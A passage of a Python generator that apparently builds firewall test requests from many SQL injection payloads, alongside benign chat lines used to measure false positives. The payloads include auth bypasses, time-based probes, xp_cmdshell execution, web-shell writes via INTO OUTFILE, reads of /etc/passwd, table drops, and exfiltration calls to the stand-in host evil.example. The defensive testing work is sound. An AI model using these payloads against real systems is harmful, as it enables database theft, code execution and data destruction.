        "benchmark(10000000,md5(1))",
        "1) and benchmark(5000000,sha1('a'))--",
        "SLEEP (5)",
        "sleep/**/(5)",
        "(select*from(select(sleep(5)))a)",
        "1'XOR(if(now()=sysdate(),sleep(5),0))OR'",
        "BeNcHmArK(1e7,MD5('x'))",
    ]),
    ("sqli", "sqli-conditional-sleep-benchmark", "942170", [
        "SELECT IF(1=1,SLEEP(5),0)",
        "1 AND IF(SUBSTRING(version(),1,1)=5,SLEEP(5),1)",
        "'; select if(ascii(substr(user(),1,1))>64,benchmark(5000000,md5(1)),0)--",
        "1 and (select 1 from dual where sleep(5))",
        "' AND (SELECT * FROM (SELECT(SLEEP(5)))x)-- ",
        "1;select benchmark(1000000,sha1(1))",
        "1 or if(1,sleep(3),0)",
        "select case when 1=1 then sleep(5) else 0 end",
        "1 and ifnull(sleep(5),1)",
        "1 union select if(user() like 'root%',sleep(4),0)",
    ]),
    ("sqli", "sqli-mssql-exec-info-gathering", "942190", [
        "'; exec master..xp_cmdshell 'whoami'--",
        "; EXEC xp_cmdshell('dir')",
        "1 union select @@version--",
        "' union select 1,current_user()--",
        "1 and database()='app'",
        "' union select schema()--",
        "1 union select user()",
        "' into outfile '/var/www/html/x.php'--",
        "1 union select 1 from information_schema.tables",
        "'; exec master.dbo.xp_dirtree '\\\\evil.example\\x'--",
        "1 and connection_id()>0",
        "' having 1=1--",
    ]),
    ("sqli", "sqli-integer-overflow", "942220", [
        "4294967295",
        "4294967296",
        "2147483648",
        "2147483647",
        "-2147483648",
        "-2147483649",
        "3.0.00738585072007e-308",
        "1e309",
        "0000012345",
        "-0000023456",
        "9223372036854775808",
        "2.2250738585072011e-308",
    ]),
    ("sqli", "sqli-conditional", "942230", [
        "1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END",
        "' and (case when (1=1) then 1 else 1/0 end)=1--",
        "1 and iif(1=1,1,0)=1",
        "' OR IF(1=1,'a','b')='a",
        "1 and (select case when (substring(user,1,1)='s') then 1 else 0 end)",
        "1) like (select 1)",
        ";if (select user) = 'sa' waitfor delay '0:0:5'",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "1 group by id having 1=1",
        "1 AND IF(1=1,1,(SELECT 1 UNION SELECT 2))",
    ]),
    ("sqli", "sqli-charset-switch-mssql-dos", "942240", [
        "'; waitfor delay '0:0:5'--",
        "\";WAITFOR TIME \"23:00\"--",
        "alter database app character set gbk",
        "ALTER TABLE users CONVERT TO CHARACTER SET latin1",
        "' ; waitfor   delay '00:00:10'",
        "1'); waitfor delay '0:0:5'--",
        "alter table users modify name varchar(10) char set utf8mb4",
        "'; goto x; x: select 1--",
        "%bf%27 OR 1=1--",
        "ALTER SCHEMA app DEFAULT CHARSET big5",
    ]),
    ("sqli", "sqli-match-merge-execute-immediate", "942250", [
        "' or match(name) against('admin' in boolean mode)--",
        "1 and MATCH (title,body) AGAINST ('x')",
        "merge into users using dual on (1=1) when matched then update set role='admin'",
        "begin execute immediate 'drop table users'; end;",
        "'; EXECUTE IMMEDIATE 'GRANT DBA TO scott'--",
        "1 and match(a) against(0x61)",
        "MERGE INTO accounts a USING (select 1 from dual) b ON (1=1) WHEN MATCHED THEN UPDATE SET a.balance=1e9",
        "execute   immediate 'select 1 from dual'",
        "' or match(email)against('*' in boolean mode)#",
        "1;Execute Immediate 'alter user sys identified by x'",
    ]),
    ("sqli", "sqli-union-select-from", "942270", [
        "1 union select password from users",
        "' UNION ALL SELECT username FROM admins--",
        "-1 UnIoN SeLeCt 1,2 FrOm dual",
        "1/**/union/**/select/**/name/**/from/**/users",
        "1 union(select(pass)from(users))",
        "1 union distinct select 1 from x",
        "0 union\nselect 1 from dual",
        "' union select table_name from all_tables--",
        "1 UNION SELECT * FROM creditcards",
        "1+union+select+1+from+users",
        "1 UNION/*!50000SELECT*/ 1 FROM t",
    ]),
    ("sqli", "sqli-pg-sleep-waitfor-shutdown", "942280", [
        ";select pg_sleep(5)--",
        "1; SELECT pg_sleep(10);--",
        "' || pg_sleep(5)--",
        "'; waitfor delay '0:0:5'--",
        "; shutdown with nowait--",
        "'; SHUTDOWN--",
        "1);select pg_sleep(3)--",
        ";WAITFOR DELAY '00:00:05'",
        "select pg_sleep(5)",
        "1' and (select 1 from pg_sleep(5))--",
    ]),
    ("sqli", "sqli-mongodb", "942290", [
        "[$ne]=1",
        "admin[$ne]=x",
        "username[$regex]=^adm",
        "[$gt]=",
        "token[$exists]=true",
        "[$in][]=admin",
        "[$where]=sleep(100)",
        "{\"$ne\": null}",
        "{\"username\": {\"$gt\": \"\"}, \"token\": {\"$gt\": \"\"}}",
        "{\"$where\": \"sleep(5000)\"}",
        "[$nin][]=x",
        "[$or][0][a]=1",
    ]),
    ("sqli", "sqli-stored-procedure", "942320", [
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "'; declare @q varchar(99); set @q='x'; exec(@q)--",
        ";DECLARE @x NVARCHAR(4000)",
        "exec(@cmd)",
        "create function f() -- ",
        "create procedure p() -- x",
        "'; open c1--",
        ";declare c cursor for select name from sysobjects",
        "1; create or replace function sh(text) returns text as '/tmp/x.so' language c",
        "PROCEDURE ANALYSE ()",
    ]),
    ("sqli", "sqli-udf-data-manipulation", "942350", [
        "create function sys_exec returns integer soname 'lib_mysqludf_sys.so'",
        "1; select sys_eval('id')",
        "'; insert into users(name,role) values('x','admin')--",
        ";update users set role='admin' where 1=1--",
        "'; delete from users--",
        "1; drop table users--",
        "; alter table users add column x int",
        "'; truncate table logs--",
        "1;load data infile '/etc/passwd' into table t",
        "; create table pwn(x text)",
        "1; rename table users to u2",
    ]),
    ("sqli", "sqli-concatenated-sqllfi", "942360", [
        "1 union select 1",
        "'; alter table x drop column y",
        "1' union select load_file('/etc/passwd')--",
        "select * from users into outfile '/tmp/u.txt'",
        "1' ; select user--",
        "') union all select null--",
        "1 AS int",
        "1 union select load_file(char(47,101,116,99,47,104,111,115,116,115))",
        "-1' union select 1,2 into dumpfile '/var/www/s.php'",
        "load_file(0x2f6574632f706173737764)",
    ]),
    ("sqli", "sqli-mysql-inline-comment", "942500", [
        "/*!50000union*/ select 1",
        "/*! union*/ select 1",
        "1/*!12345UNION SELECT*/1",
        "/*!32302 AND 1=0*/",
        "'/*!or*/1=1-- ",
        "/*!UnIoN*/ /*!SeLeCt*/ 1",
        "1 /*!50000AND*/ 1=1",
        "/*!00000select*/ user()",
        "1/*!*/or/*!*/1",
        "admin'/*!-- */",
    ]),
    ("sqli", "sqli-injection-testing", "942110", [
        "'",
        "\"",
        "';",
        "admin'",
        "1'",
        "''",
        "`",
        "x\"",
        "'test",
        "\";",
        "1`",
    ]),
    ("sqli", "sqli-operator", "942120", [
        "1 xor 1",
        "' rlike '^a",
        "1 regexp '^[a-z]'",
        "1<>2",
        "1 is null",
        "a' sounds like 'a",
        "1 not between 0 and 1",
        "1 and 1 in (1,2)",
        "isnull(1)",
        "1||1",
        "a' && 'a",
        "1 <=> 1",
    ]),
    ("sqli", "sqli-tautology", "942130", [
        "' or 'a'='a",
        "1 or 1=1",
        "admin' or 1 like 1--",
        "' or 'b' regexp 'b",
        "1' or 2 is not 3",
        "x' or 1!=2--",
        "' OR \"z\"=\"z",
        "' or 5>4--",
        "1 or 'a'<'b'",
        "' || 1=1#",
        "') or ('x')=('x",
    ]),
    ("sqli", "sqli-function-names", "942150", [
        "ascii(substring(user(),1,1))",
        "concat(0x7e,version())",
        "char(65)",
        "group_concat(table_name)",
        "md5('x')",
        "substr(@@version,1,1)",
        "hex(database())",
        "extractvalue(1,concat(0x7e,user()))",
        "updatexml(1,concat(0x7e,database()),1)",
        "load_file('/etc/hosts')",
        "utl_inaddr.get_host_name((select user from dual))",
        "CHR(65)||CHR(66)",
    ]),
    ("sqli", "sqli-auth-bypass-1", "942180", [
        "admin' --",
        "admin'#",
        "admin'/*",
        "' or ''='",
        "'=' or",
        "' or 1--",
        "1'or'1",
        "\"or\"\"=\"",
        "'*'",
        "'^'",
        "' - '",
        "'-''",
    ]),
    ("sqli", "sqli-comment-space-obfuscation", "942200", [
        "1/**/union/**/select/**/1",
        "1'/**/or/**/1=1#",
        "select`name`from`users`",
        "1`or`1",
        ",(select 1)",
        "/**/OR/**/1",
        "'||(select 1)#",
        "x`=`x",
        "1'/*x*/and/*x*/'1'='1",
        "1%0aunion%0aselect%0a1",
    ]),
    ("sqli", "sqli-chained-1", "942210", [
        "1 and 2 between 1 and 3-",
        "1 group by 1,concat(0x7e,version(),0x7e)--",
        "--\ndrop table users",
        "#\nupdate users set role=1",
        ";insert into logs values(1)",
        "@x=(select 1)",
        "'; SET @a=1;",
        "x' and a=1=(1)",
        "1 xor 2 -",
        "/x; select 1",
    ]),
    ("sqli", "sqli-auth-bypass-2", "942260", [
        "' or 1=1 having 1=1--",
        "admin' like 'adm%",
        "' like '%",
        "name like '%admin%'",
        "select name from users",
        "find_in_set('a',list)",
        "union all select",
        "'*id='",
        "'-(1)-'",
        "' and 1=1 having 1--",
    ]),
    ("sqli", "sqli-comments-conditions-char", "942300", [
        "char(65,66)",
        "chr(97)||chr(98)",
        "admin'#",
        "'#",
        "/*!50000select*/",
        ") when 1 then 1",
        "1 and ascii(1)",
        "' or sleep(1)",
        "1 && version()",
        "CHAR (39)",
        "x' || user()",
    ]),
    ("sqli", "sqli-chained-2", "942310", [
        "(select user)",
        "1 order by if(1=1,1,(select 1 union select 2))",
        "'; begin dbms_lock.sleep(5); end;--",
        "' 1=1",
        "a' + 1",
        "coalesce(null,version())",
        "@@version,1",
        "'; while 1=1 begin select 1 end--",
        "(case 1 when 1 then 1 end)",
        "'; if 1=1 select 1",
        "1!'a",
    ]),
    ("sqli", "sqli-classic-probing-1", "942330", [
        "' or 1",
        "\" and \"1",
        "\\x27 or 1=1",
        "\\x3d",
        "a'",
        "1' or a(",
        "@@version)",
        "' and 1",
        "x' like 1",
        "\\x23",
        "1\" xor \"1",
    ]),
    ("sqli", "sqli-auth-bypass-3", "942340", [
        "1 in (select 1)",
        "1 and a regexp(1)",
        "' 1--",
        "'1#",
        "'=1 or",
        "'<1 and a=1",
        "' is 1 x'",
        "1 or a sounds like 'b",
        "' and 2=2",
        "'&1=1",
    ]),
    ("sqli", "sqli-alter-union-keyword", "942361", [
        "1 union",
        "' union select 1--",
        "\") union all select null--",
        "-1 UNION SELECT 1",
        "1) alter table t",
        "'; alter user root identified by 'x'",
        "0 union(select 1)",
        "9999 UNION ALL SELECT",
        "' UnIoN sElEcT",
        "\" alter database",
    ]),
    ("sqli", "sqli-classic-probing-2", "942370", [
        "'*1 and '",
        "'^'",
        "'-1",
        "' + 1 + '",
        "\"or 1",
        "'*'id'",
        "'||'",
        "\" - 1",
        "' div 1",
        "\"*\"",
    ]),
    ("sqli", "sqli-having-exists-order-by", "942380", [
        "1 having 1=1",
        "' having '1'='1",
        "1 and exists(select 1)",
        "execute xp_cmd",
        "1 order by 3--",
        "select case when 1=1 then 1 end",
        "1 from users limit 1",
        "create table x(",
        "a' like char(",
        "exists  select",
    ]),
    ("sqli", "sqli-or-and-comparison", "942390", [
        "1 or 1=1",
        "x or x=x",
        "1 and 2>1",
        "a' xor 3=3",
        "' or 'a'='a'",
        "1 div 1=1",
        "' nand 1<2",
        "x like 1=1",
        "1 and 'x'='x'",
        "a OR b>a",
    ]),
    ("sqli", "sqli-and-comparison", "942400", [
        "1 and 1=1",
        "' and 'a'='a",
        "x\" and \"1\"=\"1",
        "and 2>1",
        "AND 1<2",
        "and '1'<>'2'",
        "and 3 >= 2",
        "1 and\t5=5",
        "and 0=0--",
        "1'AND'1'='1",
    ]),
    ("sqli", "sqli-function-list", "942410", [
        "coalesce(null,1)",
        "aes_decrypt(x,'k')",
        "crc32('a')",
        "current_user()",
        "dayname(now())",
        "from_base64('YQ==')",
        "inet_aton('1.1.1.1')",
        "json_extract(doc,'$.a')",
        "lpad(1,5,0)",
        "make_set(1,user())",
        "pg_read_file('/etc/passwd')",
        "sys_context('USERENV','DB_NAME')",
    ]),
    ("sqli", "sqli-mssql-oracle-procedures", "942470", [
        "xp_cmdshell",
        "exec xp_dirtree '\\\\evil.example\\a'",
        "xp_regread",
        "sp_password",
        "sp_addsrvrolemember 'x','sysadmin'",
        "utl_http.request('http://evil.example/'||user)",
        "dbms_pipe.receive_message(('a'),5)",
        "openrowset('SQLOLEDB','server';'sa';'','select 1')",
        "opendatasource('SQLOLEDB','Data Source=evil.example')",
        "sp_oacreate 'wscript.shell',@o out",
        "xp_fileexist 'c:\\x'",
        "dbms_java.runjava('x')",
    ]),
    ("sqli", "sqli-data-statements", "942480", [
        "delete from users",
        "insert into users values(1)",
        "update users set admin=1",
        "group by 1 having 1=1",
        "union select 1",
        "dbms_output.put_line(1)",
        "create table t(x int)",
        "create database x",
        "drop table users",
        "into outfile '/tmp/x'",
        "load data infile '/etc/passwd' into table x",
    ]),
    ("sqli", "sqli-special-char-anomaly", "942430", [
        "1'))))));--;--;--",
        "' || '~' || '!' || '@' || '#'",
        "-1'));/**/ select/**/ *@@version,(('",
        "'\"`;)(*&^%$#@!~",
        "1' and (('a')=('a')) and (('b')<>('c'))--",
        "{\"$$\":[[[[[[[]]]]]]]}",
        "'||'<'||'>'||'&'||';'||",
        "%27%29%29%29%29%29%29%29%29%29%29%29%29%29%29",
        "<<<>>>===!!!(((])))]]",
        "1'=@@(@@)=('(')=@(@)",
    ]),
    ("sqli", "sqli-comment-sequence", "942440", [
        "admin'--",
        "1/*comment*/",
        "1;--",
        "' #",
        "x'-- -",
        "/**/",
        "1--+",
        "'/*",
        "1);--",
        "*/ or 1=1",
    ]),
    ("sqli", "sqli-hex-encoding", "942450", [
        "0x61646d696e",
        "select 0x414243",
        "x'41424344'",
        "0x2f6574632f706173737764",
        "1 union select 0x3c7363726970743e",
        "where name=0x61646d696e",
        "0XDEADBEEF",
        "load_file(0x2f6574632f686f737473)",
        "0x31303235343830303536",
        "unhex(0x414243)",
    ]),
    ("sqli", "sqli-ticks-backticks", "942510", [
        "`users`",
        "1`or`1`=`1",
        "`id`=`id`",
        "\u00b4or\u00b41\u00b4=\u00b41",
        "`select`",
        "admin`-- ",
        "`a` `b`",
        "`(select 1)`",
        "x\u00b4 or \u00b41\u00b4=\u00b41",
        "`YWRtaW4=`",
    ]),
    ("sqli", "sqli-json-based", "later", [
        "1 AND JSON_EXTRACT('{\"a\":1}','$.a')=1",
        "' OR '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--",
        "1 OR JSON_EXTRACT('{\"id\":14}','$.id')=14",
        "' or json_length('[1]')=1#",
        "' or '{\"a\":1}' ->> 'a' = '1",
        "1 and (select json_object('a',user()))",
        "' or 1=json_value('{\"a\":1}','$.a')--",
        "' || jsonb_exists('{\"a\":1}','a')--",
        "' or '[1]'::json->>0='1",
        "1 UNION SELECT json_arrayagg(user) FROM mysql.user",
    ]),
    ("sqli", "sqli-scientific-notation", "later", [
        "1.e(ascii 1.e(substring(1.e(select user()) 1.e,1 1.e,1 1.e) 1.e) 1.e)",
        "1.e(user())",
        "'1.e)union select 1-- ",
        "1e1union select 1",
        "0.e1union select 1",
        "1.0e0union select user()",
        "'1.e''",
        "1.e('admin')",
        "'1.e'or'1'='1",
        "id=1.e(select 1)",
    ]),
    ("sqli", "sqli-auth-bypass-split", "later", [
        "admin';--",
        "x'; select pg_sleep(1)",
        "bob\" ;",
        "1'  ;  --",
        "admin'; update users set role='admin' where name='x';--",
        "'; --",
        "user@example.com'; --",
        "a`;",
        "guest'\t;",
        "o'neil'; select 1",
    ]),
    ("sqli", "sqli-auth-bypass-4", "later", [
        "admin' or '1",
        "x' OR a",
        "bob\" and \"x",
        "u' xor 1",
        "' && 1",
        "name' ||'x'",
        "a` or 1",
        "alice' OR x=x",
        "'or'1'='1",
        "1' AND 'x",
    ]),
]

TITLES: list[Title] = SQLI + XSS + PHP

# --- the browser and the client ------------------------------------------------------------------------------

BROWSERS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"",
     "\"Windows\""),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"",
     "\"macOS\""),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
     "Safari/537.36 Edg/126.0.0.0", "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Microsoft Edge\";v=\"126\"",
     "\"Windows\""),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0", "", ""),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "", ""),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
     "Safari/605.1.15", "", ""),
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "en-US,en;q=0.9,de;q=0.8", "fr-FR,fr;q=0.9,en;q=0.8",
         "en-US,en;q=0.5"]
CONSENT = ["cookie_consent=accepted", "consent=yes", "cookie_consent=necessary%2Canalytics",
           "_consent=v2.all", "cc_cookie=%7B%22level%22%3A%5B%22necessary%22%5D%7D"]
PAGES = ["/users", "/users?tab=active", "/admin/users", "/admin/users/search", "/settings/profile",
         "/dashboard", "/users/42", "/teams/platform"]
ORIGIN = "https://app.example.com"
LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search for ", "can you check this: ", "note: ",
         "find ", "bot, what is "]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "display_name", "location", "company"]
COOKIE_NAMES = ["last_search", "prefs", "recent", "filter"]
SETTINGS_FIELDS = ["display_name", "signature", "status_text", "timezone_label"]
HEADER_CYCLE = ["ua", "ua", "referer", "ua", "cookie", "ua", "referer", "ua", "cookie", "ua"]
SIX = ["query", "form", "json", "path", "header", "alt"]
FIVE = ["query", "form", "json", "path", "header"]
LATIN1_SUBS = {"xss-us-ascii-malformed"}
COOKIE_SAFE = "".join(c for c in string.printable[:95] if c not in ";%")
PATH_SAFE = "!$&'()*+,;=:@-._~"


class Client:
    """A browser (and Slack) session: deterministic tokens, the headers each kind of request carries, and the
    six request shapes."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.k = 0   # rotates browsers, languages and request variants

    def token(self, nbytes: int = 24) -> str:
        return b64url(self.rng.randbytes(nbytes))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def sid(self, prefix: str) -> str:
        return prefix + "".join(self.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(9))

    def browser(self, kind: str) -> dict[str, str]:
        """Headers of a current browser: kind "fetch" (an XHR from the single-page app), "json" (a fetch that
        posts JSON) or "navigate" (a form submission)."""
        self.k += 1
        ua, ch, platform = BROWSERS[self.k % len(BROWSERS)]
        h: dict[str, str] = {"User-Agent": ua}
        if kind == "navigate":
            h["Accept"] = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
                           "*/*;q=0.8")
        else:
            h["Accept"] = "application/json, text/plain, */*"
        h["Accept-Language"] = LANGS[self.k % len(LANGS)]
        h["Accept-Encoding"] = "gzip, deflate, br, zstd" if ch else "gzip, deflate, br"
        h["Referer"] = ORIGIN + PAGES[self.k % len(PAGES)]
        if ch:
            h["sec-ch-ua"] = ch
            h["sec-ch-ua-mobile"] = "?0"
            h["sec-ch-ua-platform"] = platform
        if kind != "fetch":
            h["Origin"] = ORIGIN
        h["Sec-Fetch-Dest"] = "document" if kind == "navigate" else "empty"
        h["Sec-Fetch-Mode"] = "navigate" if kind == "navigate" else "cors"
        h["Sec-Fetch-Site"] = "same-origin"
        if kind == "navigate":
            h["Sec-Fetch-User"] = "?1"
            h["Upgrade-Insecure-Requests"] = "1"
        h["Cookie"] = f"session={self.token()}; {CONSENT[self.k % len(CONSENT)]}"
        return h

    # the six places ----------------------------------------------------------------------------------------
    def query(self, value: str, latin1: bool = False) -> dict[str, Any]:
        enc = urllib.parse.quote_plus(value, encoding="latin-1" if latin1 else "utf-8")
        page = f"page={1 + self.k % 7}"
        per = f"per_page={(20, 50, 100)[self.k % 3]}"
        parts = [[f"q={enc}", page, per], [page, f"q={enc}", per], [per, page, f"q={enc}"],
                 [page, per, f"q={enc}"]][self.k % 4]
        headers = self.browser("fetch")
        return {"method": "GET", "uri": "/api/users?" + "&".join(parts), "body": "", "headers": headers}

    def form(self, uri: str, fields: list[tuple[str, str]], latin1: bool = False) -> dict[str, Any]:
        headers = self.browser("navigate")
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        body = urllib.parse.urlencode(fields, encoding="latin-1" if latin1 else "utf-8")
        return {"method": "POST", "uri": uri, "body": body, "headers": headers}

    def search_form(self, value: str, latin1: bool = False) -> dict[str, Any]:
        return self.form("/admin/users/search", [("csrf_token", self.hexs(40)), ("q", value)], latin1)

    def settings_form(self, field: str, value: str, latin1: bool = False) -> dict[str, Any]:
        fields = [("csrf_token", self.hexs(40)), (field, value), ("locale", "en-US"),
                  ("notifications", "weekly")]
        return self.form("/me/settings", fields, latin1)

    def json_req(self, method: str, uri: str, doc: dict[str, Any]) -> dict[str, Any]:
        headers = self.browser("json")
        headers["Content-Type"] = "application/json"
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False), "headers": headers}

    def user_doc(self, field: str, value: str) -> dict[str, Any]:
        doc: dict[str, Any] = {"name": "Dana Whitfield", "email": "dana.whitfield@example.com",
                               "title": "Support Engineer", "department": "Customer Success",
                               "timezone": "Europe/Dublin", "active": True}
        doc[field] = value
        return doc

    def slack(self, text: str) -> dict[str, Any]:
        self.k += 1
        epoch = 1719500000 + self.k * 7
        mention = self.k % 3 == 0
        event = {"type": "app_mention" if mention else "message", "user": self.sid("U"),
                 "text": ("<@U07BOT4242> " if mention else "") + text,
                 "ts": f"{epoch}.{self.rng.randrange(100000, 999999)}", "channel": self.sid("C")}
        body = {"token": self.token(18), "team_id": "T04EXAMPLE", "api_app_id": "A05EXAMPLE", "event": event,
                "type": "event_callback", "event_id": self.sid("Ev"), "event_time": epoch}
        headers = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                   "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
                   "X-Slack-Request-Timestamp": str(epoch), "X-Slack-Signature": "v0=" + self.hexs(64)}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": headers}

    def path(self, segment: str, latin1: bool = False) -> dict[str, Any]:
        enc = urllib.parse.quote(segment, safe=PATH_SAFE, encoding="latin-1" if latin1 else "utf-8")
        prefix = "/api/users/" if self.k % 2 == 0 else "/api/"
        return {"method": "GET", "uri": prefix + enc, "body": "", "headers": self.browser("fetch")}

    def header(self, where: str, value: str, raw: bool = False) -> dict[str, Any]:
        h = self.browser("fetch")
        req: dict[str, Any] = {"method": "GET", "uri": f"/api/users?page={1 + self.k % 5}&per_page=20",
                               "body": "", "headers": h}
        if where == "ua":
            h["User-Agent"] = value
            h.pop("sec-ch-ua", None)
            h.pop("sec-ch-ua-mobile", None)
            h.pop("sec-ch-ua-platform", None)
        elif where == "referer":
            h["Referer"] = value
        else:
            name = COOKIE_NAMES[self.k % len(COOKIE_NAMES)]
            h["Cookie"] = h["Cookie"] + f"; {name}=" + (value if raw else urllib.parse.quote(value, safe=COOKIE_SAFE))
        return req


def _has_control(s: str) -> bool:
    return any(c in s for c in "\r\n\x00")


def place_of(t: int, i: int) -> str:
    """The place of the i-th payload of the t-th title: the first six cover all six places (rotated by title),
    the rest rotate over the five main ones."""
    return SIX[(i + t) % 6] if i < 6 else FIVE[(i - 6 + t) % 5]


def attacks() -> Iterator[dict[str, Any]]:
    c = Client(8301)
    n = 0
    counters = {"json": 0, "alt": 0, "header": 0}
    for t, (category, sub, _title, payloads) in enumerate(TITLES):
        latin1 = sub in LATIN1_SUBS
        for i, p in enumerate(payloads):
            place = place_of(t, i)
            if place == "header" and _has_control(p):
                place = "query"
            if place == "query":
                req, placement = c.query(p, latin1), "query"
            elif place == "form":
                req, placement = c.search_form(p, latin1), "form"
            elif place == "json":
                counters["json"] += 1
                if counters["json"] % 2:
                    field = JSON_FIELDS[counters["json"] // 2 % len(JSON_FIELDS)]
                    req = c.json_req("POST", "/api/users", c.user_doc(field, p))
                else:
                    req = c.slack(LEADS[counters["json"] // 2 % len(LEADS)] + p)
                placement = "json"
            elif place == "path":
                req, placement = c.path(p, latin1), "path"
            elif place == "header":
                counters["header"] += 1
                where = HEADER_CYCLE[counters["header"] % len(HEADER_CYCLE)]
                if sub == "xss-libinjection-path-referer":
                    where = "referer"
                req, placement = c.header(where, p), "header"
            else:
                counters["alt"] += 1
                if counters["alt"] % 2:
                    field = JSON_FIELDS[counters["alt"] // 2 % len(JSON_FIELDS)]
                    req, placement = c.json_req("PATCH", "/api/users/42", c.user_doc(field, p)), "json"
                else:
                    field = SETTINGS_FIELDS[counters["alt"] // 2 % len(SETTINGS_FIELDS)]
                    req, placement = c.settings_form(field, p, latin1), "form"
            n += 1
            yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": placement, "payload": p}


# --- benign: the same words, innocently ----------------------------------------------------------------------

CHAT = [
    "can someone review my PR? it adds an ORDER BY to the users query",
    "pick 'Union' from the dropdown when you file the membership form",
    "the script tag in index.html loads the analytics bundle, don't move it",
    "I dropped the old staging table after the migration, backups are in S3",
    "sleep schedule is a mess this week, on call again",
    "benchmark results: p99 went from 120ms to 85ms after the index change",
    "our PHP 8.3 upgrade is done, the phpinfo page is gone from prod",
    "the alert fired at 3am, disk usage on db-2 again",
    "going to the exec offsite in Lisbon next week",
    "anyone used MATCH ... AGAINST full-text search in MySQL? is it good enough for names?",
    "let's merge the branch after standup",
    "I'll update the docs and insert screenshots tonight",
    "please delete from the shared drive anything older than 2022",
    "where do I find the information schema docs for Postgres?",
    "the onload handler in our React app double-fires in strict mode",
    "please don't use innerHTML in the new widget, textContent is enough",
    "I'll be out Monday; Jane covers support",
    "O'Reilly sent the books, they're in the kitchen",
    "Tom's test plan: 1) log in 2) search 3) log out",
    "the char limit on the title field is 255",
    "is the null handling fixed in the CSV exporter?",
    "the hex color for the banner is #ff00aa",
    "it's $5 per seat per month, or $50 a year",
    "we use {{ first_name }} placeholders in the email templates",
    "the Angular app still uses ng-model in two places",
    "if price > 100 and stock < 5 we should trigger a reorder",
    "a 1:1 ratio of engineers to designers would be a dream",
    "where is the import button? I need to upload a CSV",
    "the CASE WHEN logic in the report query is confusing, can we simplify it?",
    "who owns the sysadmin rotation this week?",
    "XP points for the gamification feature are capped at 1000",
    "link in bio, base camp photos are up",
    "please embed the demo video on the landing page",
    "the object storage bucket is versioned, restore is easy",
    "applets? that's 2005 tech, we're not doing that",
    "the scheduler runs the cleanup job every night at 2",
    "select all rows in the sheet, then sort by date",
    "I'm in the union meeting until 4",
    "Drop by my desk if you have questions about the handbook",
    "the document title says 'Q3 plan' but it's the Q4 one",
    "window cleaners are here on Thursday",
    "the cookie banner copy needs legal review",
    "we switched the session store to Redis",
    "the location field should accept 'Saint-Denis, France'",
    "name field must allow apostrophes: O'Neil, D'Angelo",
    "the search for 'rock & roll' returns nothing, bug filed",
    "Java and JavaScript are different languages, I promise",
    "our stored procedures are going away with the ORM migration",
    "the shell script for backups lives in ops/bin",
    "the system is down for maintenance Saturday 22:00-23:00 UTC",
    "please exec the runbook step 4 if the queue backs up",
    "the eval set for the ranking model is ready",
    "the password reset email template uses a {{ link }} placeholder",
    "the admin panel search now supports quotes like \"exact phrase\"",
    "base64 images in emails get clipped by Gmail",
    "the wrapper library around Stripe needs an update",
    "use the data: URL for the tiny inline icon",
    "the style guide says no inline styles",
    "the frame rate on the dashboard chart is fine now",
    "Kim wrote: 'let's keep it simple'",
    "pagination: page 2 of 10, 50 per page",
    "the title should be 'Director, Sales & Marketing'",
    "a team lunch at 12:30, vote in the thread",
    "the new hire in finance is Zoë Ångström",
    "reminder: the all-hands is moved to Wednesday",
    "who's hosting the Python meetup? we could talk about SQLAlchemy",
    "SQL tip: always use bound parameters, never string concatenation",
    "XSS review done for the comments widget, all output escaped",
    "the <details> element is perfect for the FAQ page",
    "I used <br> tags in the release notes, hope that's fine",
    "the PHP session cookie name is PHPSESSID by default",
    "$_GET and $_POST are superglobals, the intern asked",
    "the serialized cache entries are JSON now, not PHP serialize",
    "the uploads folder only accepts .png, .jpg and .pdf",
    "php.ini on the legacy box has memory_limit=512M",
    "file_get_contents is fine for reading local config in the CLI tool",
    "the concat of first and last name should have a space",
    "the version() call in our health check returns the build hash",
    "user() in the analytics SDK returns the current profile",
    "we sleep 5 seconds between retries, exponential backoff next",
    "the waitlist has 300 people, delay the launch email",
    "shutdown procedure for the office: lights, alarm, door",
    "the benchmark for the new laptops is on the wiki",
    "the union rep asked for the meeting notes",
    "schema changes go through the migration review",
    "the table of contents is auto-generated",
    "the hexagon logo file is in the brand folder",
    "the 'or' in the headline should be lowercase",
    "1 = 1 in the spreadsheet means the check passed",
    "'Select committee' minutes are on the intranet",
    "the alert() calls are removed from the legacy page",
    "onboarding: set your display name, time zone and avatar",
